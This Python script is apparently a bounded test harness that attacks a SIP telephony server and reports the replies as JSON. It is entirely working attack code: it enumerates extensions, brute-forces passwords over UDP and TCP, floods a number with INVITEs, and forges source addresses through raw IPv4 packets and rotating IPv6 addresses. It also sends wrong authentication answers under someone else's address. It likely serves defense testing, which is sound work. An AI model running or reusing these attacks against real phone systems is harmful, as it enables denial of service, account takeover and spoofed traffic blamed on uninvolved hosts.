"""Attacks on a telephone host, each bounded in count and time; prints what came back as JSON.

attacker.py scan SERVER FIRST LAST · guess, guess-tcp SERVER USER TRIES SECONDS ·
login SERVER USER PASSWORD TRIES · flood SERVER NUMBER COUNT SECONDS [FORGED ADDRESS:PORT] ·
forge SERVER USER FORGED ADDRESS:PORT TRIES · start SERVER FIRST_SOURCE SOURCES PHONES ·
hop SERVER NUMBER COUNT SECONDS PREFIX. SERVER is IPv4 or IPv6 where no address is forged.
Beside it lies mairie/host/looks/sip.py, which words the messages.
"""

import contextlib
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable
from typing import Any

import sip  # type: ignore[import-not-found] # beside it on the machine that attacks only

PORT = 5060
PATIENCE_S = 0.2
IPV6_FREEBIND = 78
"""Of linux/in6.h: any address may be a source, the machine's own or not."""


def opened(server: str, source: str = "") -> socket.socket:
    """Return a socket that speaks to the server."""
    asking = socket.socket(sip.family_of(server), socket.SOCK_DGRAM)
    if source:
        if ":" in source:
            asking.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        asking.bind((source, 0))
    asking.connect((server, PORT))
    asking.settimeout(PATIENCE_S)
    return asking


def answers(asking: socket.socket, seconds: float) -> list[str]:
    """Return what comes within some seconds of silence."""
    found = []
    while select.select([asking], [], [], seconds)[0]:
        with contextlib.suppress(ConnectionRefusedError):
            found.append(asking.recv(65535).decode(errors="replace"))
    return found


def send(asking: socket.socket, content: bytes) -> None:
    """Send, whatever was answered before: "nobody is there" shows at the next packet."""
    with contextlib.suppress(ConnectionRefusedError):
        asking.send(content)


def status(answer: str) -> str:
    """Return the number of an answer."""
    return answer.split(" ", 2)[1]


def scan(server: str, first: str, last: str) -> dict[str, Any]:
    """Ask as every extension of a range; return which ones were answered, and how."""
    found: dict[str, str] = {}
    with opened(server) as asking:
        for number in range(int(first), int(last) + 1):
            send(asking, sip._register(asking, str(number), f"scan{number}", 1).encode())
            time.sleep(0.005)
        for answer in answers(asking, 1):
            call = next(x for x in answer.splitlines() if x.lower().startswith("call-id:"))
            found[call.rpartition("scan")[2]] = status(answer)
    return {"sent": int(last) - int(first) + 1, "answered": found}


def guess(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
    """Try passwords one after the other."""
    end, told = time.monotonic() + float(seconds), Counter[str]()
    sent = 0
    with opened(server) as asking:
        asking.settimeout(PATIENCE_S / 8)
        for number in range(int(tries)):
            if time.monotonic() > end:
                break
            sent += 1
            told[_log_in(asking, server, user, f"guess-{number}")] += 1
    return {"sent": sent, "told": told}


def guess_tcp(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
    """Try passwords over one connection."""
    end, told, sent = time.monotonic() + float(seconds), Counter[str](), 0
    try:
        link = socket.create_connection((server, PORT), 3)
    except OSError as error:
        return {"sent": 0, "told": {type(error).__name__: 1}}
    with link as asking:
        asking.settimeout(PATIENCE_S)

        def ask(text: str) -> str:
            asking.sendall(text.replace("SIP/2.0/UDP", "SIP/2.0/TCP").encode())
            got = b""
            while not got.endswith(b"\r\n\r\n"):
                part = asking.recv(65535)
                if not part:
                    raise ConnectionResetError
                got += part
            return got.decode(errors="replace")

        for number in range(int(tries)):
            if time.monotonic() > end:
                break
            sent += 1
            try:
                answer = ask(sip._register(asking, user, f"tcp{number}", 1))
                signed = sip._authorization(answer, user, f"guess-{number}", f"sip:{server}:{PORT}")
                again = sip._register(asking, user, f"tcp{number}", 2, signed)
                told[f"{status(ask(again))} to a password"] += 1
            except (OSError, StopIteration):
                told["nothing"] += 1
    return {"sent": sent, "told": told}


def login(server: str, user: str, password: str, tries: str) -> dict[str, Any]:
    """Log in with one password several times."""
    with opened(server) as asking:
        told = Counter(_log_in(asking, server, user, password) for _ in range(int(tries)))
    return {"sent": int(tries), "told": told}


def _log_in(asking: socket.socket, server: str, user: str, password: str) -> str:
    call = f"{time.monotonic_ns()}"
    answer = sip._ask(asking, sip._register(asking, user, call, 1))
    if answer is None:
        return "nothing"
    if status(answer) != "401":
        return status(answer)
    signed = sip._authorization(answer, user, password, f"sip:{server}:{PORT}")
    answer = sip._ask(asking, sip._register(asking, user, call, 2, signed))
    return "nothing to a password" if answer is None else f"{status(answer)} to a password"


def flood(server: str, number: str, count: str, seconds: str, forged: str = "") -> dict[str, Any]:
    """Call a number again and again; with a forged source nothing comes back."""
    source, _, port = forged.partition(":")
    pause, begun, told = float(seconds) / int(count), time.monotonic(), Counter[str]()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if forged else None
    with opened(server) as asking:
        for each in range(int(count)):
            text = sip._request(
                asking, "INVITE", called=number, user="nobody", call=f"flood{each}", number=1
            ).encode()
            if raw is not None:
                raw.sendto(datagram(source, int(port), server, text), (server, 0))
            else:
                send(asking, text)
                told.update(status(answer) for answer in answers(asking, 0))
            time.sleep(max(0.0, begun + pause * (each + 1) - time.monotonic()))
        told.update(status(answer) for answer in answers(asking, 1))
    return {"sent": int(count), "seconds": round(time.monotonic() - begun, 1), "told": told}


def hop(server: str, number: str, count: str, seconds: str, prefix: str) -> dict[str, Any]:
    """Call a number again and again, each time from another address of an IPv6 prefix."""
    network = ipaddress.ip_network(prefix)
    pause, begun, told = float(seconds) / int(count), time.monotonic(), Counter[str]()
    for each in range(int(count)):
        source = network[random.getrandbits(128 - network.prefixlen)]
        with opened(server, f"{source}") as asking:
            text = sip._request(
                asking, "INVITE", called=number, user="nobody", call=f"hop{each}", number=1
            )
            send(asking, text.encode())
            told.update(status(answer) for answer in answers(asking, 0))
        time.sleep(max(0.0, begun + pause * (each + 1) - time.monotonic()))
    return {"sent": int(count), "seconds": round(time.monotonic() - begun, 1), "told": told}


def forge(server: str, user: str, forged: str, tries: str) -> dict[str, Any]:
    """Ask for challenges, and answer them wrongly under somebody else's address."""
    source, _, port = forged.partition(":")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    with opened(server) as asking:
        for each in range(int(tries)):
            answer = sip._ask(asking, sip._register(asking, user, f"ask{each}", 1))
            if answer is None:
                continue
            signed = sip._authorization(answer, user, f"forged-{each}", f"sip:{server}:{PORT}")
            text = sip._register(asking, user, f"forge{each}", 2, signed).encode()
            raw.sendto(datagram(source, int(port), server, text), (server, 0))
            sent += 1
    return {"sent": sent}


def datagram(source: str, port: int, server: str, content: bytes) -> bytes:
    """Return a UDP packet under somebody else's address; the kernel adds the IP checksum."""
    length = 8 + len(content)
    ends = socket.inet_aton(source) + socket.inet_aton(server)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, 17, 0) + ends
    return header + struct.pack("!HHHH", port, PORT, length, 0) + content


def start(server: str, first: str, sources: str, phones: str) -> dict[str, Any]:
    """Play phones that all start at once: two requests each, from several addresses."""
    addresses = [ipaddress.ip_address(first) + number for number in range(int(sources))]
    asking = {address: opened(server, f"{address}") for address in addresses}
    answered = 0
    for round_ in (1, 2):
        for number in range(int(phones)):
            one = asking[addresses[number % len(addresses)]]
            one.send(sip._register(one, f"9{number:04}", f"start{number}-{round_}", 1).encode())
            time.sleep(0.001)
        answered += sum(len(answers(one, 0.02)) for one in asking.values())
    time.sleep(1)
    answered += sum(len(answers(one, 0)) for one in asking.values())
    return {"sent": 2 * int(phones), "answered": answered}


if __name__ == "__main__":
    kind, *words = sys.argv[1:]
    deeds: dict[str, Callable[..., dict[str, Any]]] = {
        "guess-tcp": guess_tcp,
        "scan": scan,
        "guess": guess,
        "login": login,
        "flood": flood,
        "hop": hop,
        "forge": forge,
        "start": start,
    }
    print(json.dumps(deeds[kind](*words)))
